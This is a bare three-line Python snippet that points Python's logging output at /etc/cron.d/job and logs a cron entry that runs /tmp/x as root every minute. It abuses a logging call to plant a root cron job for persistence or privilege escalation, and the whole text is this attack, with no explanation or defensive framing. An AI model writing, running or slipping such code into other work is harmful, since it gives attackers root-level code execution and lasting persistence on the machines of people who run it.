import logging
logging.basicConfig(filename="/etc/cron.d/job")
logging.warning("* * * * * root sh /tmp/x")
